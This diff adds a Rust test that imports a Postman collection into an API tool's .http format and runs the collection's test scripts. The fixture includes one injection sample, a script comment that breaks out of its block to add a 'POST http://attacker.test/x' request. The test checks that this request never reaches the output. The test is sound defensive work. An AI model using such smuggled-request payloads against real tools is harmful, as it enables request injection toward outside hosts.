@@ -270,3 +270,68 @@ fn a_script_file_outside_the_collection_is_not_read() {
     assert!(!o.stderr.contains("read me"), "{}", o.stderr);
     assert!(o.stderr.contains("not run"), "{}", o.stderr);
 }
+
+/// A Postman collection whose login test script keeps the token in the
+/// environment, a folder whose pre-request script sets a variable, and a
+/// request whose tests use pm.expect.
+fn postman_collection(base: &str) -> String {
+    serde_json::json!({
+        "info": {"name": "Shop", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
+        "event": [{"listen": "prerequest", "script": {"exec": ["pm.variables.set('client', 'apiscope');"]}}],
+        "item": [
+            {
+                "name": "Login",
+                "event": [{"listen": "test", "script": {"exec": [
+                    "pm.test('logged in', () => pm.response.to.have.status(200));",
+                    "pm.environment.set('token', pm.response.json().token);",
+                    "/* %}\n### injected\nPOST http://attacker.test/x */"
+                ]}}],
+                "request": {"method": "POST", "url": format!("{base}/login"), "body": {"mode": "raw", "raw": "{}"}}
+            },
+            {
+                "name": "Account",
+                "item": [{
+                    "name": "Me",
+                    "event": [{"listen": "test", "script": {"exec": [
+                        "pm.test('id is 7', () => pm.expect(pm.response.json().id).to.eql(7));",
+                        "pm.test('auth echoed', () => pm.expect(pm.response.json().auth).to.include('Bearer '));"
+                    ]}}],
+                    "request": {"method": "GET", "url": format!("{base}/me"), "header": [
+                        {"key": "Authorization", "value": "Bearer {{token}}"},
+                        {"key": "X-Client", "value": "{{client}}"}
+                    ]}
+                }]
+            }
+        ]
+    })
+    .to_string()
+}
+
+#[test]
+fn imported_postman_scripts_are_files_and_run_with_pm_once_trusted() {
+    let s = api();
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("shop.json"), postman_collection(&s.base)).unwrap();
+    let o = common::apiscope_in(dir.path(), &["import", "shop.json", "-o", "shop"], b"");
+    assert_eq!(o.code, 0, "{}", o.stderr);
+    let http = std::fs::read_to_string(dir.path().join("shop/shop.http")).unwrap();
+    // Scripts are referenced, never inlined: the `%}` / `###` in one stays
+    // in its file.
+    assert!(http.contains("> ./scripts/login.test.js"), "{http}");
+    assert!(http.contains("< ./scripts/me.pre.js"), "{http}");
+    assert!(!http.contains("attacker"), "{http}");
+    let login = std::fs::read_to_string(dir.path().join("shop/scripts/login.test.js")).unwrap();
+    assert!(login.contains("pm.environment.set('token'"), "{login}");
+    let file = dir
+        .path()
+        .join("shop/shop.http")
+        .to_string_lossy()
+        .into_owned();
+    let o = common::apiscope_in(dir.path(), &["test", &file, "--trust", "--yes"], b"");
+    assert_eq!(o.code, 0, "{}\n{}", o.stdout, o.stderr);
+    assert!(o.stdout.contains("✔ logged in"), "{}", o.stdout);
+    assert!(o.stdout.contains("✔ id is 7"), "{}", o.stdout);
+    assert!(o.stdout.contains("✔ auth echoed"), "{}", o.stdout);
+    let all = s.requests().concat().to_ascii_lowercase();
+    assert!(all.contains("x-client: apiscope"), "{all}");
+}
